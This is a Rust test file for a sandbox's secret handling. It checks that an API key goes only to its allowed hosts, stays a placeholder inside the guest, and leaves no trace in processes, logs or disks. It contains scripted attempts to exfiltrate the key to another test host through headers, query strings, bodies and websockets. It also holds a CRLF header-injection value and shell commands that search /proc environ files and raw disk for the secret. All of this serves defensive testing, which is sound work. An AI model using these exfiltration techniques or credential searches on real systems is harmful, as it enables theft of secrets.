//! Rows 7 to 10 and 21 of the promises: a secret's value is in nothing that the sandbox has, goes to its
//! own hosts only, and is nowhere on this machine but in the process that needs it.

use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;

use base64::prelude::{BASE64_STANDARD, Engine as _};
use harness::cache::CLIENTS;
use harness::process::family;
use harness::{Matchlock, Sandbox, Site};
use serde_json::Value;

use crate::attacks::{ATTACKER, assert_refused, attempts};

/// `Authorization` with a user and a password.
pub(crate) fn basic(user: &str, password: &str) -> String {
    format!("Basic {}", BASE64_STANDARD.encode(format!("{user}:{password}")))
}

/// A sandbox with the secret `KEY` for api and web, and other hosts that it may reach.
fn with_secret<'a>(matchlock: &'a Matchlock, flags: &[&str]) -> Sandbox<'a> {
    let secret = ["--allow-host", "*.good.test", "--secret", "KEY@api.good.test,web.good.test"];
    Sandbox::start(matchlock, CLIENTS, &[&secret, flags].concat())
}

fn site_with(value: &str) -> Matchlock {
    Site::shared().matchlock().with_images(&[CLIENTS]).with_variable("KEY", value)
}

const WRONG_HOST: &str = r"
import base64, gzip, urllib.parse
known('www.good.test')
P = os.environ['KEY']
B = base64.b64encode(f'user:{P}'.encode()).decode()
def to(host, path='/reflect?wrong', more='', body=''):
    return lambda: answer(send(tls(host, host), get(host, path, f'{more}Content-Length: {len(body)}\r\n') + body))
H = 'other.good.test'
attempt('control', to('web.good.test', '/status/200', f'Authorization: Bearer {P}\r\n'))
attempt('control without', to(H, '/status/200'))
attempt('header', to(H, more=f'Authorization: Bearer {P}\r\n'))
attempt('any header', to(H, more=f'X-Thing: a{P}b\r\n'))
attempt('name of a header', to(H, more=f'{P}: 1\r\n'))
attempt('cookie', to(H, more=f'Cookie: a=b; c={P}\r\n'))
attempt('basic', to(H, more=f'Authorization: Basic {B}\r\n'))
attempt('basic, other case', to(H, more=f'authorization: bAsIc {B}\r\n'))
attempt('query', to(H, f'/reflect?wrong={P}'))
attempt('query, percent', to(H, '/reflect?wrong=' + ''.join(f'%{ord(c):02x}' for c in P)))
attempt('query, some percent', to(H, '/reflect?wrong=' + P.replace('_', '%5F')))
attempt('path', to(H, f'/reflect/{P}?wrong'))
attempt('path, percent', to(H, '/reflect/' + P.replace('S', '%53') + '?wrong'))
attempt('h1 absolute target', to(H, f'https://{H}/reflect?wrong={P}'))
";

#[test]
fn row_7_placeholder_in_the_head_of_a_request_to_another_host() {
    let (site, value) = (Site::shared(), "sk-row7-0123456789abcdef");
    let matchlock = site_with(value);
    let sandbox = with_secret(&matchlock, &[]);
    let attempts = attempts(&sandbox, WRONG_HOST);
    assert_refused(&attempts);
    let denials = sandbox.events().iter().filter(|event| event["block_code"] == "secret_wrong_host").count();
    assert!(denials >= 8, "{denials} of {}", attempts.len());
    assert!(site.requests("wrong").is_empty());
    let named = |line: &Value| {
        !line["sni"].as_str().is_some_and(|sni| ["api", "web"].iter().any(|it| sni.starts_with(it)))
    };
    site.assert_unseen(value, named);
}

#[test]
fn row_7_value_in_bodies_frames_and_trailers_that_are_not_for_it() {
    let (site, value) = (Site::shared(), "sk-row7b-0123456789abcdef");
    let matchlock = site_with(value);
    let sandbox = with_secret(&matchlock, &[]);
    let program = "
import asyncio, base64, gzip, websockets
P = os.environ['KEY']
def post(host, body, more=''):
    return lambda: answer(send(tls(host, host), f'POST /reflect?row7b HTTP/1.1\\r\\nHost: {host}\\r\\n{more}\\r\\n'.encode() + body))
for host in ['other.good.test', 'web.good.test']:
    plainly = P.encode()
    attempt('control body', post(host, plainly, f'Content-Length: {len(plainly)}\\r\\n'))
    chunks = b''.join(b'1\\r\\n%c\\r\\n' % byte for byte in plainly) + b'0\\r\\n\\r\\n'
    attempt('control chunks', post(host, chunks, 'Transfer-Encoding: chunked\\r\\n'))
    packed = gzip.compress(plainly)
    attempt('control gzip', post(host, packed, f'Content-Encoding: gzip\\r\\nContent-Length: {len(packed)}\\r\\n'))
    trailing = b'2\\r\\nhi\\r\\n0\\r\\nX-T: ' + plainly + b'\\r\\n\\r\\n'
    attempt('trailer', post(host, trailing, 'Transfer-Encoding: chunked\\r\\nTrailer: X-T\\r\\n'))
async def main():
    async with websockets.connect('wss://ws.good.test/x') as w:
        await w.send('a' + P + 'b'); print('ws =>', await w.recv() == 'a' + P + 'b')
asyncio.run(main())
";
    let output = sandbox.python(&format!("{ATTACKER}\n{program}")).success().stdout_text();
    for attempt in output.lines().filter(|line| line.starts_with("control")) {
        assert!(attempt.contains("=> 200 "), "a body is no reason to refuse: {attempt}");
    }
    site.assert_unseen(value, |_| true);
    let echoed = output.contains("ws => True") || !output.contains("ws =>");
    assert!(echoed, "{output}");
}

#[test]
fn row_8_placeholder_in_a_body_stays_as_it_is_and_blocks_nothing() {
    let (site, value) = (Site::shared(), "sk-row8-0123456789abcdef");
    let matchlock = site_with(value);
    let sandbox = with_secret(&matchlock, &["--secret-placeholder", "KEY=PLACEHOLDER-OF-ROW-8"]);
    for host in ["web", "api", "other"] {
        let line = format!("curl -sS -d \"history: $KEY and more\" https://{host}.good.test/reflect?row8");
        let output = sandbox.sh(&line).success().stdout_text();
        assert!(output.contains("history: PLACEHOLDER-OF-ROW-8 and more"), "{host}: {output}");
    }
    assert_eq!(site.requests("row8").len(), 3);
    site.assert_unseen(value, |_| true);
}

#[test]
fn the_value_takes_the_placeholders_place_in_headers_basic_and_query_of_its_hosts() {
    let (site, value) = (Site::shared(), "sk-&own=0123%456789/+");
    let matchlock = site_with(value);
    let sandbox = with_secret(&matchlock, &[]);
    for (host, flag) in [("web", "--http1.1"), ("api", "--http2")] {
        let line = format!(
            "curl -sS {flag} -o /dev/null -w '%{{http_code}}' -u \"me:$KEY\" -H \"X-Api-Key: $KEY\" -H \"X-Two: $KEY,$KEY\" \
             -b \"session=$KEY\" \"https://{host}.good.test/reflect?own={host}&key=$KEY&b=1\""
        );
        assert_eq!(sandbox.sh(&line).success().stdout_text(), "200", "{host}");
        let request = site.requests(&format!("own={host}")).pop().expect("it arrived");
        let header = |name: &str| {
            let headers = request["headers"].as_array().expect("a list");
            let found =
                headers.iter().find(|it| it[0].as_str().is_some_and(|it| it.eq_ignore_ascii_case(name)));
            found.and_then(|it| it[1].as_str()).unwrap_or_default().to_owned()
        };
        assert_eq!(header("authorization"), basic("me", value));
        assert_eq!(header("x-api-key"), value);
        assert_eq!(header("x-two"), format!("{value},{value}"));
        assert_eq!(header("cookie"), format!("session={value}"));
        let target = request["target"].as_str().unwrap();
        assert!(
            target.ends_with("&b=1") && target.to_lowercase().contains("key=sk-%26own%3d0123%25456789"),
            "{target}"
        );
    }
    for event in sandbox.events() {
        assert!(!event.to_string().contains("0123%456789"), "{event}");
    }
}

#[test]
fn row_9_value_reflected_by_the_server_is_a_placeholder_again() {
    let value = "sk-row9-0123456789abcdef";
    let matchlock = site_with(value);
    let sandbox = with_secret(&matchlock, &[]);
    let urls = [
        "web.good.test/reflect",
        "web.good.test/reflect?as=gzip",
        "web.good.test/reflect?as=drip",
        "web.good.test/sse",
        "api.good.test/reflect",
        "api.good.test/reflect?as=drip",
        "api.good.test/sse",
        "api.good.test/reflect?as=gzip",
    ];
    for url in urls {
        for flag in ["--http1.1", "--http2"] {
            let line = format!(
                "curl -sS {flag} -i --compressed -H \"Authorization: Bearer $KEY\" -H 'Accept-Encoding: gzip' https://{url}; echo; echo $KEY"
            );
            let output = sandbox.sh(&line).success().stdout_text();
            assert!(!output.contains(value), "{flag} {url}: {output}");
            let placeholder = output.lines().last().unwrap_or_default().to_owned();
            assert!(placeholder.starts_with("SANDBOX_SECRET_") && placeholder.len() == 47, "{output}");
            assert!(output.matches(&placeholder).count() >= 2, "{flag} {url}: {output}");
        }
    }
    let basic = sandbox.sh("curl -sS -u \"me:$KEY\" https://web.good.test/challenge").success().stdout_text();
    assert!(basic.starts_with("me:SANDBOX_SECRET_"), "{basic}");
}

#[test]
fn row_10_secret_over_plain_http_only_where_the_user_said_so() {
    let (site, value) = (Site::shared(), "sk-row10-0123456789abcdef");
    let matchlock = site_with(value);
    let flags = ["--allow-host", "*.good.test", "--secret", "KEY@http://other.good.test,web.good.test"];
    let sandbox = Sandbox::start(&matchlock, CLIENTS, &flags);
    let ask = |url: &str| {
        let line =
            format!("curl -sS -o /tmp/body -w '%{{http_code}} ' -H \"X-Key: $KEY\" {url}; cat /tmp/body");
        sandbox.sh(&line).success().stdout_text()
    };
    let refused = ask("http://web.good.test/reflect?row10");
    assert!(refused.starts_with("403 ") && refused.contains("plain_http_secret"), "{refused}");
    assert!(site.requests("row10").is_empty());
    assert!(ask("https://web.good.test/reflect?row10=tls").starts_with("200 "));
    assert!(ask("http://other.good.test/reflect?row10=opted").starts_with("200 "));
    let got = site.requests("row10=opted").pop().expect("it arrived");
    assert!(got.to_string().contains(value), "{got}");
}

#[test]
fn row_21_the_value_is_nowhere_but_in_the_process_that_needs_it() {
    let value = "sk-row21-5d7c2e9a4f";
    let matchlock = site_with(value);
    let sandbox = with_secret(&matchlock, &["--rm=false", "--privileged"]);
    let line = "curl -sS -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $KEY\" https://web.good.test/reflect?row21";
    assert_eq!(sandbox.sh(line).success().stdout_text(), "200");
    let _ = sandbox.sh("curl -sS -H \"X-Key: $KEY\" https://other.good.test/ http://web.good.test/");
    // Processes: all of the owner's family, the VMM included.
    for pid in family(matchlock.owner(sandbox.id())).into_iter().chain([matchlock.vmm(sandbox.id())]) {
        for file in ["cmdline", "environ"] {
            let path = format!("/proc/{}/{file}", pid.as_raw_nonzero());
            assert!(!holds(&fs::read(&path).unwrap_or_default(), value), "{path}");
        }
        let limits = fs::read_to_string(format!("/proc/{}/limits", pid.as_raw_nonzero())).unwrap_or_default();
        let core = limits.lines().find(|line| line.starts_with("Max core file size"));
        assert!(
            core.is_none_or(|line| line.split_whitespace().nth(4) == Some("0")),
            "it can dump core: {core:?}"
        );
    }
    // Files of ours, the database and the logs among them, and what is told of the sandbox.
    no_file_holds(&matchlock.home(), value);
    for command in [&["inspect"][..], &["get"], &["log"], &["policy", "log"]] {
        let output = sandbox.command(command, &[]).success();
        assert!(!holds(&output.stdout, value) && !holds(&output.stderr, value), "{command:?}");
    }
    // The sandbox itself, as its most powerful user.
    let search = "env | grep -c VALUE; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | grep -ac VALUE; \
                  grep -rac VALUE /etc /root /run /tmp /var/log /home 2>/dev/null | grep -v ':0$'; \
                  cat /proc/cmdline | grep -c VALUE; dmesg | grep -c VALUE; echo done";
    // A pattern, so that the command does not find itself.
    let output = sandbox.sh(&search.replace("VALUE", "'sk-row21-5d7[c]2e9a4f'")).stdout_text();
    assert_eq!(output, "0\n0\n0\n0\ndone\n");
    let memory = "
import re
needle = re.compile(b'5d7c' + b'2e9a4f'); found = []
with open('/dev/vda', 'rb') as disk:
    while block := disk.read(1 << 22): found += needle.findall(block)
print(len(found))";
    assert_eq!(sandbox.python(memory).success().stdout_text().trim(), "0", "on its root disk");
    let _ = sandbox.command(&["stop"], &[]);
    no_file_holds(&matchlock.home(), value);
}

fn holds(bytes: &[u8], value: &str) -> bool {
    bytes.windows(value.len()).any(|window| window == value.as_bytes())
}

fn no_file_holds(directory: &Path, value: &str) {
    for entry in fs::read_dir(directory).into_iter().flatten().flatten() {
        let (path, kind) = (entry.path(), entry.file_type().expect("it was there"));
        assert!(!holds(path.as_os_str().as_bytes(), value), "{}", path.display());
        if kind.is_dir() {
            no_file_holds(&path, value);
        } else if kind.is_file() && fs::metadata(&path).is_ok_and(|it| it.len() < 1 << 30) {
            // Disks are sparse, and all of them is searched.
            let found = std::process::Command::new("grep").args(["-acF", value]).arg(&path).output();
            let found = found.expect("grep runs");
            assert_ne!(found.status.code(), Some(0), "{} holds the value", path.display());
        }
    }
}

#[test]
fn secrets_that_are_wrong_are_refused_without_repeating_them() {
    let matchlock = Site::shared().matchlock().with_images(&[CLIENTS]);
    let file = matchlock.user_home().join("secrets.json");
    fs::write(&file, r#"{"KEY": "hunter2"}"#).unwrap();
    let file = file.to_str().unwrap();
    let cases: &[&[&str]] = &[
        &["--secret", "KEY=hunter2"],
        &["--secret", "=hunter2@api.good.test"],
        &["--secret", "KEY=hunter2@"],
        &["--secret", "KEY=hunter2\r\nX: y@api.good.test"],
        &["--secret", "KEY=hunter2@user@bad host"],
        &["--secret", "ABSENT_IN_THE_ENVIRONMENT@api.good.test"],
        &["--secret-file", file],
        &["--secret-file", "/nonexistent"],
        &["--secret-placeholder", "KEY=x"],
        &["--secret", "KEY=hunter2@api.good.test", "--no-network"],
        &["--secret", "KEY=hunter2@api.good.test", "--secret-placeholder", "KEY="],
    ];
    for case in cases {
        let output = matchlock.run(&[&["run"], *case, &["--image", CLIENTS, "--", "true"]].concat());
        assert!([Some(2), Some(125)].contains(&output.code), "{case:?}: {:?}", output.code);
        let said = output.stderr_text();
        assert!(!said.is_empty() && !said.contains("hunter2"), "{case:?}: {said}");
    }
    matchlock.assert_nothing_left();
}

#[test]
fn secrets_come_from_files_too_and_the_guest_has_only_placeholders() {
    let site = Site::shared();
    let matchlock = site.matchlock().with_images(&[CLIENTS]);
    let file = matchlock.user_home().join("secrets.json");
    let secrets = r#"{"ONE": {"value": "value-of-one", "hosts": ["web.good.test"], "placeholder": "one-is-here"},
                      "TWO": {"value": "value-of-two", "hosts": ["web.good.test"]}}"#;
    fs::write(&file, secrets).unwrap();
    let sandbox = Sandbox::start(&matchlock, CLIENTS, &["--secret-file", file.to_str().unwrap()]);
    let output = sandbox.sh("echo $ONE $TWO; curl -sS -o /dev/null -H \"a: $ONE\" -H \"b: $TWO\" https://web.good.test/reflect?files");
    let output = output.success().stdout_text();
    assert!(output.starts_with("one-is-here SANDBOX_SECRET_"), "{output}");
    let got = site.requests("reflect?files").pop().expect("it arrived").to_string();
    assert!(got.contains("value-of-one") && got.contains("value-of-two"), "{got}");
    let elsewhere = sandbox.sh("curl -sS --max-time 20 https://www.good.test/hello");
    assert_ne!(elsewhere.code, Some(0), "secrets alone seal the network");
}
